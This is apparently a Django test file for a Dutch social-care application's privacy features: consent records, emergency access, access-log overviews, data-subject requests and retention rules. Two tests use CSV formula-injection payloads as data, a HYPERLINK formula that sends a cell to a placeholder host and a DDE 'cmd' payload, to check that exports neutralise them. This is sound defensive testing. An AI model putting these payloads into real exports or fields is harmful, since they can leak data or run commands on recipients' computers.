"""The privacy screens: valid, invalid (400 with the Dutch message), unauthorised (404/403)."""

import csv
import datetime
import html
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from wijkteam.privacy.access_log import log_access
from wijkteam.privacy.constants import AccessAction
from wijkteam.privacy.models import AccessLogEntry, Consent, EmergencyAccess
from wijkteam.rights.models import InzageRequest, RetentionRule
from wijkteam.testing.factories import UserFactory
from wijkteam.testing.pdf import pdf_text

pytestmark = [pytest.mark.django_db, pytest.mark.urls("wijkteam.rights.tests.urls_for_tests")]


def consent_data(world, **overrides):
    data = {
        "organisation": world.provider.pk,
        "purpose": "Begeleiding afstemmen",
        "categories": ["plan", "netwerk"],
        "given_how": "schriftelijk",
        "valid_from": "2026-01-01",
        "valid_until": "",
    }
    data.update(overrides)
    return data


# ---- consent ------------------------------------------------------------------------------


def test_consent_list_and_create(client_for, world):
    client = client_for(world.coordinator)
    url = reverse("privacy:consent_list", args=[world.resident.pk])
    assert client.get(url).status_code == 200
    create = reverse("privacy:consent_create", args=[world.resident.pk])
    page = client.get(create)
    assert page.status_code == 200
    assert "Ontvangende organisatie" in page.content.decode()
    response = client.post(create, consent_data(world))
    assert response.status_code == 302
    consent = Consent.objects.get()
    assert consent.categories == ["plan", "netwerk"]
    listing = client.get(url).content.decode()
    assert world.provider.name in listing and "geldig" in listing


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        (
            {"valid_from": "2030-05-01", "valid_until": "2030-04-01"},
            "De einddatum ligt vóór de begindatum.",
        ),
        ({"organisation": "999999"}, "Onbekende organisatie"),
        ({"categories": []}, "Kies ten minste één soort gegevens."),
        ({"categories": ["dagboek"]}, "Onbekende soort gegevens"),
        ({"valid_from": "gisteren"}, "Vul een geldige datum in."),
    ],
)
def test_bad_consent_gives_400_with_the_dutch_message(client_for, world, overrides, message):
    response = client_for(world.coordinator).post(
        reverse("privacy:consent_create", args=[world.resident.pk]),
        consent_data(world, **overrides),
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert message in html
    assert 'aria-invalid="true"' in html
    assert not Consent.objects.exists()


def test_consent_pages_out_of_scope_are_404_and_logged(client_for, world):
    client = client_for(world.outsider)
    for name in (
        "consent_list",
        "consent_create",
        "legal_ground_create",
        "access_overview",
        "requests",
        "inzage_create",
    ):
        assert client.get(reverse(f"privacy:{name}", args=[world.resident.pk])).status_code == 404
    assert (
        AccessLogEntry.objects.filter(action=AccessAction.REFUSED, user=world.outsider).count() == 6
    )
    assert (
        client_for(UserFactory(beheerder=True))
        .get(reverse("privacy:consent_list", args=[world.resident.pk]))
        .status_code
        == 404
    )


def test_withdraw_twice_shows_the_message(client_for, world):
    client = client_for(world.coordinator)
    client.post(reverse("privacy:consent_create", args=[world.resident.pk]), consent_data(world))
    consent = Consent.objects.get()
    url = reverse("privacy:consent_withdraw", args=[consent.pk])
    assert client.post(url, {"note": "per brief"}).status_code == 302
    again = client.post(url, {"note": ""})
    assert again.status_code == 400
    assert "al ingetrokken op" in again.content.decode()
    assert client_for(world.outsider).post(url, {}).status_code == 404


def test_legal_ground_needs_ground_and_justification_and_a_case_worker(client_for, world):
    url = reverse("privacy:legal_ground_create", args=[world.resident.pk])
    data = consent_data(world, legal_ground="", justification="")
    response = client_for(world.coordinator).post(url, data)
    assert response.status_code == 400
    data["legal_ground"] = "meldcode"
    response = client_for(world.coordinator).post(url, data)
    assert response.status_code == 400
    assert "Onderbouw waarom" in response.content.decode()
    data["justification"] = "Stap 5 van de meldcode"
    assert client_for(world.coordinator).post(url, data).status_code == 302
    assert Consent.objects.get().legal_ground == "meldcode"


# ---- emergency access ---------------------------------------------------------------------------


def test_emergency_open_without_reason_is_400_and_logged(client_for, world):
    client = client_for(world.outsider)
    url = reverse("privacy:emergency_open")
    assert client.get(url).status_code == 200
    response = client.post(url, {"case_number": world.case.pk, "reason": "", "minutes": 60})
    assert response.status_code == 400
    assert "zonder reden krijgt u geen toegang" in response.content.decode()
    assert not EmergencyAccess.objects.exists()
    assert AccessLogEntry.objects.filter(action=AccessAction.REFUSED, user=world.outsider).exists()


def test_emergency_open_by_number_and_by_bsn(client_for, world):
    client = client_for(world.outsider)
    url = reverse("privacy:emergency_open")
    response = client.post(url, {"case_number": world.case.pk, "reason": "Acuut", "minutes": 30})
    assert response.status_code == 302
    assert response["Location"] == reverse("cases:detail", args=[world.case.pk])
    assert EmergencyAccess.objects.get().user == world.outsider
    EmergencyAccess.objects.update(
        opened_at=timezone.now() - datetime.timedelta(hours=1),
        expires_at=timezone.now() - datetime.timedelta(seconds=1),
    )
    world.resident.bsn = "111222333"
    world.resident.save()
    response = client.post(url, {"bsn": "111222333", "reason": "Weer acuut", "minutes": 15})
    assert response.status_code == 302
    assert EmergencyAccess.objects.count() == 2


def test_emergency_open_for_an_unknown_case(client_for, world):
    response = client_for(world.outsider).post(
        reverse("privacy:emergency_open"), {"case_number": 999999, "reason": "x", "minutes": 30}
    )
    assert response.status_code == 400
    assert "Geen casus gevonden" in response.content.decode()
    response = client_for(world.outsider).post(
        reverse("privacy:emergency_open"), {"reason": "x", "minutes": 30}
    )
    assert "Vul een casusnummer of een BSN in." in response.content.decode()


def test_review_queue_is_for_the_teamleider(client_for, world):
    client_for(world.outsider).post(
        reverse("privacy:emergency_open"),
        {"case_number": world.case.pk, "reason": "Acuut: politie aan de deur", "minutes": 30},
    )
    grant = EmergencyAccess.objects.get()
    queue = client_for(world.leader).get(reverse("privacy:emergency_queue"))
    assert queue.status_code == 200
    assert "Acuut: politie aan de deur" in queue.content.decode()
    assert client_for(world.coordinator).get(reverse("privacy:emergency_queue")).status_code == 403
    review = reverse("privacy:emergency_review", args=[grant.pk])
    assert client_for(world.coordinator).get(review).status_code == 404
    bad = client_for(world.leader).post(review, {"verdict": "niet_gerechtvaardigd", "note": ""})
    assert bad.status_code == 400
    assert "Licht toe" in bad.content.decode()
    ok = client_for(world.leader).post(review, {"verdict": "gerechtvaardigd", "note": ""})
    assert ok.status_code == 302
    grant.refresh_from_db()
    assert grant.verdict == "gerechtvaardigd"


# ---- the resident's access overview -------------------------------------------------------------


def test_access_overview_shows_who_when_and_why(client_for, world):
    client_for(world.coordinator).get(reverse("privacy:consent_list", args=[world.resident.pk]))
    response = client_for(world.own).get(
        reverse("privacy:access_overview", args=[world.resident.pk])
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert world.coordinator.display_name in html
    assert world.provider.name in html
    assert "toestemmingen bekeken" in html
    assert "Generalist" in html


def test_access_overview_period_filter_and_bad_period(client_for, world):
    log_access(
        user=world.coordinator,
        action=AccessAction.READ,
        residents=[world.resident.pk],
        purpose="vandaag gelezen",
    )
    url = reverse("privacy:access_overview", args=[world.resident.pk])
    client = client_for(world.own)
    today = timezone.localdate()
    hit = client.get(url, {"van": today.isoformat(), "tot": today.isoformat()}).content.decode()
    assert "vandaag gelezen" in hit
    past = client.get(url, {"van": "2020-01-01", "tot": "2020-12-31"}).content.decode()
    assert "vandaag gelezen" not in past
    assert "niemand het dossier ingezien" in past
    bad = client.get(url, {"van": "2026-05-01", "tot": "2026-04-01"})
    assert bad.status_code == 400
    assert "De einddatum ligt vóór de begindatum." in bad.content.decode()


def test_access_overview_uses_a_fixed_number_of_queries(client_for, world):
    client = client_for(world.own)
    url = reverse("privacy:access_overview", args=[world.resident.pk])
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    for i in range(30):
        log_access(
            user=UserFactory(),
            action=AccessAction.READ,
            residents=[world.resident.pk],
            purpose=f"r{i}",
        )
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many) == len(few)


def test_access_overview_paginates(client_for, world):
    for i in range(55):
        log_access(
            user=world.coordinator,
            action=AccessAction.READ,
            residents=[world.resident.pk],
            purpose=f"lezen-{i:02d}",
        )
    client = client_for(world.own)
    url = reverse("privacy:access_overview", args=[world.resident.pk])
    first = client.get(url).content.decode()
    assert "lezen-00" in first and "lezen-54" not in first
    assert "Pagina 1 van 2" in first
    # keyset pagination: the page after the last row of page 1 (an opaque ``na`` token)
    next_href = re.search(r'rel="next" href="([^"]+)"', first).group(1)
    second = client.get(url + html.unescape(next_href)).content.decode()
    assert "lezen-54" in second and "lezen-00" not in second
    assert "Pagina 2 van 2" in second


def test_access_overview_exports_csv_and_pdf_and_logs_them(client_for, world):
    log_access(
        user=world.coordinator,
        action=AccessAction.READ,
        residents=[world.resident.pk],
        purpose="dossier gelezen",
    )
    client = client_for(world.own)
    csv_response = client.get(reverse("privacy:access_overview_csv", args=[world.resident.pk]))
    assert csv_response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["tijdstip", "wie", "organisatie", "rol", "handeling", "waarom"]
    assert any(r[1] == world.coordinator.display_name and r[5] == "dossier gelezen" for r in rows)
    pdf_response = client.get(reverse("privacy:access_overview_pdf", args=[world.resident.pk]))
    assert pdf_response["Content-Type"] == "application/pdf"
    assert pdf_response.content.startswith(b"%PDF")
    assert "dossier gelezen" in pdf_text(pdf_response.content)
    assert AccessLogEntry.objects.filter(action=AccessAction.EXPORT, user=world.own).count() == 2
    assert (
        client_for(world.outsider)
        .get(reverse("privacy:access_overview_csv", args=[world.resident.pk]))
        .status_code
        == 404
    )


def test_access_overview_csv_cannot_inject_a_formula(client_for, world):
    """A purpose typed in by a member (e.g. a doorbraak reason) is text in the spreadsheet."""
    evil = '=HYPERLINK("https://example.invalid/?d="&A1,"Klik")'
    log_access(
        user=world.coordinator,
        action=AccessAction.READ,
        residents=[world.resident.pk],
        purpose=evil,
    )
    response = client_for(world.own).get(
        reverse("privacy:access_overview_csv", args=[world.resident.pk])
    )
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert ["'" + evil] == [r[5] for r in rows if "HYPERLINK" in r[5]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# ---- inzage and correction -----------------------------------------------------------------------


def test_inzage_flow(client_for, world):
    client = client_for(world.coordinator)
    create = reverse("privacy:inzage_create", args=[world.resident.pk])
    bad = client.post(
        create, {"received_on": "2099-01-01", "requested_by": "inwoner", "received_via": "brief"}
    )
    assert bad.status_code == 400
    assert "kan niet in de toekomst liggen" in bad.content.decode()
    assert not InzageRequest.objects.exists()
    response = client.post(
        create, {"received_on": "2026-04-30", "requested_by": "inwoner", "received_via": "brief"}
    )
    item = InzageRequest.objects.get()
    assert response["Location"] == reverse("privacy:inzage_detail", args=[item.pk])
    detail = client.get(response["Location"]).content.decode()
    assert "1 juni 2026" in detail
    data = json.loads(client.get(reverse("privacy:inzage_json", args=[item.pk])).content)
    assert data["resident"]["id"] == world.resident.pk
    pdf = client.get(reverse("privacy:inzage_pdf", args=[item.pk]))
    assert pdf.content.startswith(b"%PDF")
    assert AccessLogEntry.objects.filter(action=AccessAction.EXPORT).count() == 2
    done = client.post(
        reverse("privacy:inzage_complete", args=[item.pk]), {"provided_on": "2026-05-20"}
    )
    assert done.status_code == 302
    assert client.get(reverse("privacy:open_requests")).status_code == 200
    assert (
        client_for(world.outsider).get(reverse("privacy:inzage_detail", args=[item.pk])).status_code
        == 404
    )
    assert (
        client_for(world.outsider).get(reverse("privacy:inzage_json", args=[item.pk])).status_code
        == 404
    )


def test_inzage_for_a_resident_out_of_scope_is_refused_and_logged(client_for, world):
    response = client_for(world.outsider).post(
        reverse("privacy:inzage_create", args=[world.resident.pk]),
        {"received_on": "2026-04-30", "requested_by": "inwoner", "received_via": "brief"},
    )
    assert response.status_code == 404
    assert not InzageRequest.objects.exists()
    assert AccessLogEntry.objects.get(action=AccessAction.REFUSED).resident_ids == [
        world.resident.pk
    ]


def test_correction_flow(client_for, world):
    client = client_for(world.coordinator)
    response = client.post(
        reverse("privacy:correction_create", args=[world.resident.pk]),
        {"received_on": "2026-04-30", "concerns": "Adres", "requested_change": "Nieuw adres"},
    )
    assert response.status_code == 302
    from wijkteam.rights.models import CorrectionRequest

    correction = CorrectionRequest.objects.get()
    url = reverse("privacy:correction_decide", args=[correction.pk])
    bad = client.post(url, {"outcome": "afgewezen", "note": "", "decided_on": "2026-05-01"})
    assert bad.status_code == 400
    assert "Motiveer" in bad.content.decode()
    ok = client.post(
        url,
        {"outcome": "afgewezen", "note": "Adres klopt volgens de BRP", "decided_on": "2026-05-01"},
    )
    assert ok.status_code == 302
    page = client.get(reverse("privacy:requests", args=[world.resident.pk])).content.decode()
    assert "Adres klopt volgens de BRP" in page


# ---- register of processing and retention ----------------------------------------------------------


def test_register_is_for_beheerder_and_policy_officer(client_for, world):
    url = reverse("privacy:register")
    for user in (UserFactory(beheerder=True), UserFactory(beleid=True)):
        response = client_for(user).get(url)
        assert response.status_code == 200
        html = response.content.decode()
        assert world.case.team.responsible_organisation.name in html
        assert "Jeugdwet-dossier" in html and "te bevestigen" in html
    assert client_for(world.coordinator).get(url).status_code == 403
    assert client_for(UserFactory(wmoraad=True)).get(url).status_code == 403


def test_register_downloads(client_for, world):
    client = client_for(UserFactory(beheerder=True))
    data = json.loads(client.get(reverse("privacy:register_json")).content)
    [reg] = data["registers"]
    names = {r["name"] for r in reg["recipients"]}
    assert world.provider.name in names
    assert {c["code"] for c in reg["data_categories"]} >= {"gezondheid", "financien"}
    text = client.get(reverse("privacy:register_csv")).content.decode("utf-8-sig")
    assert text.splitlines()[0] == "gemeente;onderdeel;omschrijving;toelichting"
    assert "bewaartermijn" in text


def test_register_csv_cannot_inject_a_formula(client_for, world):
    world.provider.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.provider.save()
    text = (
        client_for(UserFactory(beheerder=True))
        .get(reverse("privacy:register_csv"))
        .content.decode("utf-8-sig")
    )
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    recipients = [r[2] for r in rows if r[1] == "ontvanger" and "SUM" in r[2]]
    assert recipients == ["'@SUM(1+1)*cmd|' /C calc'!A0 (Zorgaanbieder)"]


def test_retention_page_and_edit(client_for):
    beheerder = UserFactory(beheerder=True)
    client = client_for(beheerder)
    assert client.get(reverse("privacy:retention")).status_code == 200
    rule = RetentionRule.objects.get(kind="wmo")
    url = reverse("privacy:retention_rule_edit", args=[rule.pk])
    bad = client.post(url, {"years": 0, "source": "x"})
    assert bad.status_code == 400
    assert "tussen 1 en 115 jaar" in bad.content.decode()
    ok = client.post(url, {"years": 10, "source": "Selectielijst 2020", "to_confirm": ""})
    assert ok.status_code == 302
    rule.refresh_from_db()
    assert (rule.years, rule.to_confirm) == (10, False)
    assert client_for(UserFactory(beleid=True)).get(url).status_code == 403
    assert client_for(UserFactory(beleid=True)).get(reverse("privacy:retention")).status_code == 200
